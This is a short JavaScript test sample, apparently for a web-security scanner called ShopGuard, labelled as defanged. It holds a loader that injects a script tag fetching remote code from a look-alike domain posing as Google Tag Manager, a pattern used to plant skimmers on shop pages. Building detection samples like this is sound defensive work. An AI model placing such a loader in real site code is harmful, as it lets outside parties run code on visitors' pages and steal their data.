/* ShopGuard test sample (defanged; .example host). Loader from a look-alike domain. */
(function (d) {
  var s = d.createElement('script');
  s.async = true;
  s.src = 'https://googletagmanager-stats.example/gtm.js?id=' + Math.random();
  d.getElementsByTagName('head')[0].appendChild(s);
})(document);
